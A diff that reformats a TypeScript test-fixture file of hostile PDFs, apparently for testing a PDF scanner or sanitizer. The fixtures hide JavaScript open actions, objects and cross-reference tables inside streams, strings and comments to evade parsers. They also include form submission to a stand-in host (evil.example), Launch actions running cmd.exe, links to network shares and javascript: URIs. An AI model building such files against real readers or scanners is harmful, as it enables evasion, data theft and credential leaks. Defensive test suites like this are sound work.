@@ -14,7 +14,13 @@ const hex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`);
 
 /** The table leads to an object inside a stream, under a spelling of its header that viewers take. */
 const behindHeader = (header: string) => () =>
-  new PdfDraft(OPEN).hide(7, Buffer.concat([Buffer.from('6 0 obj\n'), inStream(`${hidden(header)}`), Buffer.from('\nendobj\n')]), header).finish();
+  new PdfDraft(OPEN)
+    .hide(
+      7,
+      Buffer.concat([Buffer.from('6 0 obj\n'), inStream(`${hidden(header)}`), Buffer.from('\nendobj\n')]),
+      header,
+    )
+    .finish();
 
 /** The objects stand in the open, the table that leads to them and to the hidden one is where `wrap` puts it. */
 function hiddenTable(wrap: (table: string) => string): Buffer {
@@ -26,7 +32,11 @@ function hiddenTable(wrap: (table: string) => string): Buffer {
 }
 
 const packed = (entries: string, encode?: (text: Buffer) => Buffer, type?: string) => () =>
-  pdfWithObjectStream([SCRIPT], { entries, ...(encode ? { encode } : {}), ...(type === undefined ? {} : { type }) }, { catalog: OPEN });
+  pdfWithObjectStream(
+    [SCRIPT],
+    { entries, ...(encode ? { encode } : {}), ...(type === undefined ? {} : { type }) },
+    { catalog: OPEN },
+  );
 
 /** A cross-reference stream that leads into a string. */
 function crossReferenceStream(entries: string, encode: (rows: Buffer) => Buffer): Buffer {
@@ -41,7 +51,10 @@ function crossReferenceStream(entries: string, encode: (rows: Buffer) => Buffer)
 /** PNG "up" over rows of six bytes. */
 function upPredicted(rows: Buffer): Buffer {
   const lines = Array.from({ length: rows.length / 6 }, (_, row) =>
-    Buffer.from([2, ...rows.subarray(row * 6, row * 6 + 6).map((byte, at) => byte - (rows[(row - 1) * 6 + at] ?? 0))]),
+    Buffer.from([
+      2,
+      ...rows.subarray(row * 6, row * 6 + 6).map((byte, at) => byte - (rows[(row - 1) * 6 + at] ?? 0)),
+    ]),
   );
   return deflateSync(Buffer.concat(lines));
 }
@@ -50,7 +63,11 @@ function upPredicted(rows: Buffer): Buffer {
 function storedWithEnd(text: Buffer): Buffer {
   const first = text.indexOf('<<');
   const words = '/A (endstream) ';
-  const grown = Buffer.concat([text.subarray(0, first), Buffer.from(`<< ${words}`), text.subarray(first + 3)]);
+  const grown = Buffer.concat([
+    text.subarray(0, first),
+    Buffer.from(`<< ${words}`),
+    text.subarray(first + 3),
+  ]);
   return deflateSync(grown, { level: 0 });
 }
 
@@ -61,7 +78,11 @@ const withIndirectLength = () => {
   draft.object(8, String(data.length));
   draft.object(6, stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data, '8 0 R'));
   const at = draft.add('9 0 obj\n');
-  const rows = Buffer.concat([draft.rows([]).subarray(0, 42), Buffer.from([2, 0, 0, 0, 6, 0]), draft.rows().subarray(42)]);
+  const rows = Buffer.concat([
+    draft.rows([]).subarray(0, 42),
+    Buffer.from([2, 0, 0, 0, 6, 0]),
+    draft.rows().subarray(42),
+  ]);
   draft.add(stream('/Type /XRef /Size 9 /W [1 4 1] /Root 1 0 R', rows));
   draft.add('\nendobj\n');
   return draft.end(at);
@@ -79,52 +100,140 @@ const share = '\\\\\\\\host\\\\share\\\\cv.pdf';
 const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`;
 const link = (action: string, ...objects: string[]) =>
   buildPdf({ page: `/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`, objects });
-const opening = (action: string, ...objects: (string | Buffer)[]) => buildPdf({ catalog: `/OpenAction << ${action} >>`, objects });
+const opening = (action: string, ...objects: (string | Buffer)[]) =>
+  buildPdf({ catalog: `/OpenAction << ${action} >>`, objects });
 
 export const hiddenByKeywords: HostilePdf[] = [
-  ['stream as a value of the catalog', () => new PdfDraft(`/X stream\n/OpenAction ${SCRIPT}\nendstream /Y 1`).finish()],
+  [
+    'stream as a value of the catalog',
+    () => new PdfDraft(`/X stream\n/OpenAction ${SCRIPT}\nendstream /Y 1`).finish(),
+  ],
   ['stream as an item of an array', () => new PdfDraft(`/X [stream\n] /OpenAction ${SCRIPT}`).finish()],
-  ['an object header as a value', () => new PdfDraft(`/X 9 0 obj << >> stream\n /OpenAction ${SCRIPT} >> endstream`).finish()],
+  [
+    'an object header as a value',
+    () => new PdfDraft(`/X 9 0 obj << >> stream\n /OpenAction ${SCRIPT} >> endstream`).finish(),
+  ],
   ['endobj as a value', () => new PdfDraft(`/X endobj (\n) /OpenAction ${SCRIPT}`).finish()],
   ['xref as a value', () => new PdfDraft(`/X xref 0 1 /OpenAction ${SCRIPT}`).finish()],
-  ['trailer as a value', () => new PdfDraft(`/X trailer << >> stream\n /OpenAction ${SCRIPT} >> endstream`).finish()],
-  ['a dictionary that is not closed before its stream', () => new PdfDraft(`/X << /Y [ 1 >> stream\n ] >> /OpenAction ${SCRIPT}\nendstream`).finish()],
-  ['a bracket that closes another', () => new PdfDraft(`/X [ << /Y 1 ] >> stream\n/OpenAction ${SCRIPT} >>\nendstream`).finish()],
-  ['a stream behind a number', () => new PdfDraft(OPEN).object(6, `6 stream\n 7 0 obj ${SCRIPT} endobj endstream`).finish()],
-  ['an end mark with a dictionary behind it', () => new PdfDraft(`%%EOF9 0 obj (\n/OpenAction ${SCRIPT} %)\n`).finish()],
+  [
+    'trailer as a value',
+    () => new PdfDraft(`/X trailer << >> stream\n /OpenAction ${SCRIPT} >> endstream`).finish(),
+  ],
+  [
+    'a dictionary that is not closed before its stream',
+    () => new PdfDraft(`/X << /Y [ 1 >> stream\n ] >> /OpenAction ${SCRIPT}\nendstream`).finish(),
+  ],
+  [
+    'a bracket that closes another',
+    () => new PdfDraft(`/X [ << /Y 1 ] >> stream\n/OpenAction ${SCRIPT} >>\nendstream`).finish(),
+  ],
+  [
+    'a stream behind a number',
+    () => new PdfDraft(OPEN).object(6, `6 stream\n 7 0 obj ${SCRIPT} endobj endstream`).finish(),
+  ],
+  [
+    'an end mark with a dictionary behind it',
+    () => new PdfDraft(`%%EOF9 0 obj (\n/OpenAction ${SCRIPT} %)\n`).finish(),
+  ],
 ];
 
 export const hiddenPlaces: HostilePdf[] = [
-  ...['7 0 obj', '+7 0 obj', '007 00 obj', '7\0 0\0obj', '7\r\n\t0\f obj', '7 %c\n0 obj', '7 0 %c\r%d\robj', '7.0 0 obj', '7 0 obj7', '7\x800\x80obj'].map(
+  ...[
+    '7 0 obj',
+    '+7 0 obj',
+    '007 00 obj',
+    '7\0 0\0obj',
+    '7\r\n\t0\f obj',
+    '7 %c\n0 obj',
+    '7 0 %c\r%d\robj',
+    '7.0 0 obj',
+    '7 0 obj7',
+    '7\x800\x80obj',
+  ].map(
     (header): HostilePdf => [`an object in a stream behind ${JSON.stringify(header)}`, behindHeader(header)],
   ),
-  ['an object in a string', () => new PdfDraft(OPEN).hide(7, `6 0 obj\n(${hidden()})\nendobj\n`, '7 0 obj').finish()],
-  ['an object in a comment', () => new PdfDraft(OPEN).hide(7, `%${hidden().replaceAll('\n', ' ')}\n`, '7 0 obj').finish()],
-  ['an object behind a long gap in a string', () => new PdfDraft(OPEN).hide(7, `6 0 obj\n(!${' '.repeat(5000)}${hidden()})\nendobj\n`, ' ').finish()],
+  [
+    'an object in a string',
+    () => new PdfDraft(OPEN).hide(7, `6 0 obj\n(${hidden()})\nendobj\n`, '7 0 obj').finish(),
+  ],
+  [
+    'an object in a comment',
+    () => new PdfDraft(OPEN).hide(7, `%${hidden().replaceAll('\n', ' ')}\n`, '7 0 obj').finish(),
+  ],
+  [
+    'an object behind a long gap in a string',
+    () => new PdfDraft(OPEN).hide(7, `6 0 obj\n(!${' '.repeat(5000)}${hidden()})\nendobj\n`, ' ').finish(),
+  ],
   ['a table in a string', () => hiddenTable((table) => `8 0 obj\n(${table})\nendobj\n`)],
-  ['a table in a stream', () => hiddenTable((table) => `8 0 obj\n<< /Length ${table.length} >>\nstream\n${table}\nendstream\nendobj\n`)],
+  [
+    'a table in a stream',
+    () =>
+      hiddenTable((table) => `8 0 obj\n<< /Length ${table.length} >>\nstream\n${table}\nendstream\nendobj\n`),
+  ],
   ['a table in a comment', () => hiddenTable((table) => `%${table.replaceAll('\n', '\r')}\n`)],
-  ['a trailer in a stream', () => new PdfDraft().object(6, inStream(`\nendobj\ntrailer\n<< /Size 9 /Root << /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >> >>\n`)).end(3)],
-  ['a trailer in a string', () => new PdfDraft().object(6, `(\nendobj\ntrailer\n<< /Root << /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >> >>\n)`).end(3)],
-  ['an earlier table in a string', () => {
-    const draft = new PdfDraft(OPEN).hide(7, `6 0 obj\n(${hidden()})\nendobj\n`, '7 0 obj');
-    const at = draft.add(`8 0 obj\n(${draft.table()})\nendobj\n`) + '8 0 obj\n('.length;
-    const from = draft.add(`xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 8 /Root 1 0 R /Prev ${at} >>\n`);
-    return draft.end(from);
-  }],
-  ['a hybrid table in a string', () => {
-    const draft = new PdfDraft(OPEN);
-    draft.hide(7, `6 0 obj\n(${hidden()})\nendobj\n`, '7 0 obj').place(6, 9);
-    const table = stream('/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Filter /ASCIIHexDecode', hex(draft.rows())).toString('latin1');
-    const at = draft.add(`8 0 obj\n(\n9 0 obj\n${table}\nendobj)\nendobj\n`) + '8 0 obj\n(\n'.length;
-    const from = draft.add(new PdfDraft().table(`/XRefStm ${at}`));
-    return draft.end(from);
-  }],
+  [
+    'a trailer in a stream',
+    () =>
+      new PdfDraft()
+        .object(
+          6,
+          inStream(
+            `\nendobj\ntrailer\n<< /Size 9 /Root << /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >> >>\n`,
+          ),
+        )
+        .end(3),
+  ],
+  [
+    'a trailer in a string',
+    () =>
+      new PdfDraft()
+        .object(
+          6,
+          `(\nendobj\ntrailer\n<< /Root << /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >> >>\n)`,
+        )
+        .end(3),
+  ],
+  [
+    'an earlier table in a string',
+    () => {
+      const draft = new PdfDraft(OPEN).hide(7, `6 0 obj\n(${hidden()})\nendobj\n`, '7 0 obj');
+      const at = draft.add(`8 0 obj\n(${draft.table()})\nendobj\n`) + '8 0 obj\n('.length;
+      const from = draft.add(
+        `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 8 /Root 1 0 R /Prev ${at} >>\n`,
+      );
+      return draft.end(from);
+    },
+  ],
+  [
+    'a hybrid table in a string',
+    () => {
+      const draft = new PdfDraft(OPEN);
+      draft.hide(7, `6 0 obj\n(${hidden()})\nendobj\n`, '7 0 obj').place(6, 9);
+      const table = stream(
+        '/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Filter /ASCIIHexDecode',
+        hex(draft.rows()),
+      ).toString('latin1');
+      const at = draft.add(`8 0 obj\n(\n9 0 obj\n${table}\nendobj)\nendobj\n`) + '8 0 obj\n(\n'.length;
+      const from = draft.add(new PdfDraft().table(`/XRefStm ${at}`));
+      return draft.end(from);
+    },
+  ],
   ['a cross-reference stream', () => crossReferenceStream('', (rows) => rows)],
   ['a cross-reference stream, deflated', () => crossReferenceStream('/Filter /FlateDecode', deflateSync)],
   ['a cross-reference stream in hex', () => crossReferenceStream('/Filter /AHx', hex)],
-  ['a cross-reference stream with a predictor', () => crossReferenceStream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 6 >>', upPredicted)],
-  ['a cross-reference stream with a predictor in a list', () => crossReferenceStream('/Filter [/FlateDecode] /DecodeParms [<< /Columns 6 /Predictor 12 >>]', upPredicted)],
+  [
+    'a cross-reference stream with a predictor',
+    () =>
+      crossReferenceStream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 6 >>', upPredicted),
+  ],
+  [
+    'a cross-reference stream with a predictor in a list',
+    () =>
+      crossReferenceStream(
+        '/Filter [/FlateDecode] /DecodeParms [<< /Columns 6 /Predictor 12 >>]',
+        upPredicted,
+      ),
+  ],
   ['a table whose rows are read in two ways', tableOfTwoMinds],
 ];
 
@@ -139,7 +248,12 @@ export const hiddenObjectStreams: HostilePdf[] = [
   ['parameters abbreviated', packed('/Filter /FlateDecode /DP << /Predictor 12 >>')],
   ['a predictor', packed('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>')],
   ['a filter that we do not undo', packed('/Filter /LZWDecode')],
-  ['run lengths', packed('/Filter /RunLengthDecode', (text) => Buffer.concat([Buffer.from([text.length - 1]), text, Buffer.from([128])]))],
+  [
+    'run lengths',
+    packed('/Filter /RunLengthDecode', (text) =>
+      Buffer.concat([Buffer.from([text.length - 1]), text, Buffer.from([128])]),
+    ),
+  ],
   ['an encryption filter', packed('/Filter [/Crypt /FlateDecode]')],
   ['a second first offset', packed('/Filter /FlateDecode /First 0')],
   ['a second filter', packed('/Filter /FlateDecode /Filter /LZWDecode')],
@@ -150,25 +264,64 @@ export const hiddenObjectStreams: HostilePdf[] = [
 
 export const hiddenNames: HostilePdf[] = [
   ['/J#53', () => opening('/S /J#61v#61Script /J#53 (app.alert\\(1\\))')],
-  ['a key with a byte that is blank to one viewer', () => opening('/S /JavaScript\xff/JS\x80(app.alert\\(1\\))')],
-  ['a script as a stream', () => opening('/S /JavaScript /JS 6 0 R', stream('', Buffer.from('app.alert(1)')))],
+  [
+    'a key with a byte that is blank to one viewer',
+    () => opening('/S /JavaScript\xff/JS\x80(app.alert\\(1\\))'),
+  ],
+  [
+    'a script as a stream',
+    () => opening('/S /JavaScript /JS 6 0 R', stream('', Buffer.from('app.alert(1)'))),
+  ],
   ['an action named by reference', () => opening('/S 6 0 R /JS 7 0 R', '/JavaScript', '(app.alert\\(1\\))')],
-  ['a name tree', () => buildPdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(a) 7 0 R] >>', SCRIPT] })],
-  ['a name tree of trees', () => buildPdf({ catalog: '/Names << /JavaScript << /Kids [6 0 R] >> >>', objects: ['<< /Limits [(a) (a)] /Names [(a) 7 0 R] >>', SCRIPT] })],
+  [
+    'a name tree',
+    () =>
+      buildPdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(a) 7 0 R] >>', SCRIPT] }),
+  ],
+  [
+    'a name tree of trees',
+    () =>
+      buildPdf({
+        catalog: '/Names << /JavaScript << /Kids [6 0 R] >> >>',
+        objects: ['<< /Limits [(a) (a)] /Names [(a) 7 0 R] >>', SCRIPT],
+      }),
+  ],
   ['a page that opens', () => buildPdf({ page: `/AA << /O ${SCRIPT} >>` })],
-  ['a field that is left', () => buildPdf({ catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]', objects: [`<< /FT /Tx /T (a) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /Bl ${SCRIPT} >> >>`] })],
+  [
+    'a field that is left',
+    () =>
+      buildPdf({
+        catalog: '/AcroForm << /Fields [6 0 R] >>',
+        page: '/Annots [6 0 R]',
+        objects: [
+          `<< /FT /Tx /T (a) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /Bl ${SCRIPT} >> >>`,
+        ],
+      }),
+  ],
   ['a next action', () => opening(`/S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT}`)],
 ];
 
 export const otherActions: HostilePdf[] = [
-  ['a form that is sent when opened', () => opening('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>')],
-  ['a form that is sent, in an object stream', () => pdfWithObjectStream(['<< /S /SubmitForm /F (http://evil.example/) >>'], {}, { catalog: OPEN })],
+  [
+    'a form that is sent when opened',
+    () => opening('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>'),
+  ],
+  [
+    'a form that is sent, in an object stream',
+    () => pdfWithObjectStream(['<< /S /SubmitForm /F (http://evil.example/) >>'], {}, { catalog: OPEN }),
+  ],
   ['data that is imported', () => opening('/S /ImportData /F (a.fdf)')],
   ['a start of a program by a link', () => link('/S /Launch /F (cmd.exe)')],
   ['a start of a program, named by reference', () => link('/S 6 0 R /F (cmd.exe)', '/Launch')],
   ['a file on a share', () => opening(`/S /GoToR /F (${share}) /D [0 /Fit]`)],
-  ['a file on a share, as a description', () => opening(`/S /GoToR /F << /Type /Filespec /F (a.pdf) /UF (${share}) >> /D [0 /Fit]`)],
-  ['a file on a share, in hex', () => link('/S /GoToR /F <5c5c686f73745c73686172655c612e706466> /D [0 /Fit]')],
+  [
+    'a file on a share, as a description',
+    () => opening(`/S /GoToR /F << /Type /Filespec /F (a.pdf) /UF (${share}) >> /D [0 /Fit]`),
+  ],
+  [
+    'a file on a share, in hex',
+    () => link('/S /GoToR /F <5c5c686f73745c73686172655c612e706466> /D [0 /Fit]'),
+  ],
   ['a file on a share, in UTF-16', () => link(`/S /GoToR /F ${utf16('\\\\host\\share\\a.pdf')} /D [0 /Fit]`)],
   ['a file on a share, in octal', () => link('/S /GoToR /F (\\134\\134host\\134share) /D [0 /Fit]')],
   ['a file on a share, by reference', () => link('/S /GoToR /F 6 0 R /D [0 /Fit]', `(${share})`)],
@@ -179,15 +332,37 @@ export const otherActions: HostilePdf[] = [
   ['an article on a share', () => link(`/S /Thread /F (${share}) /D 0`)],
   ['an address that is a script', () => link('/S /URI /URI (javascript:alert\\(1\\))')],
   ['an address that is a script, with blanks', () => link('/S /URI /URI ( java\\nscript:alert\\(1\\))')],
-  ['a stream in another file', () => buildPdf({ objects: [stream('/F (http://evil.example/a)', Buffer.alloc(0))] })],
-  ['a stream on a share', () => buildPdf({ objects: [stream(`/F << /Type /Filespec /F (${share}) >>`, Buffer.alloc(0))] })],
-  ['a stream in a file by reference', () => buildPdf({ objects: [stream('/F 7 0 R', Buffer.alloc(0)), '(a)'] })],
-  ['a film', () => buildPdf({ page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]' })],
+  [
+    'a stream in another file',
+    () => buildPdf({ objects: [stream('/F (http://evil.example/a)', Buffer.alloc(0))] }),
+  ],
+  [
+    'a stream on a share',
+    () => buildPdf({ objects: [stream(`/F << /Type /Filespec /F (${share}) >>`, Buffer.alloc(0))] }),
+  ],
+  [
+    'a stream in a file by reference',
+    () => buildPdf({ objects: [stream('/F 7 0 R', Buffer.alloc(0)), '(a)'] }),
+  ],
+  [
+    'a film',
+    () => buildPdf({ page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]' }),
+  ],
   ['a sound', () => opening('/S /Sound /Sound 6 0 R', stream('/R 8000', Buffer.alloc(9)))],
   ['a rendition with a script', () => opening('/S /Rendition /OP 0 /JS (app.alert\\(1\\))')],
-  ['a model in three dimensions', () => buildPdf({ page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]' })],
+  [
+    'a model in three dimensions',
+    () => buildPdf({ page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]' }),
+  ],
   ['a rich medium', () => buildPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })],
-  ['a form in XML', () => buildPdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', objects: [stream('', Buffer.from('<xdp:xdp/>'))] })],
+  [
+    'a form in XML',
+    () =>
+      buildPdf({
+        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
+        objects: [stream('', Buffer.from('<xdp:xdp/>'))],
+      }),
+  ],
   ['a target in an embedded file', () => opening('/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]')],
 ];
 
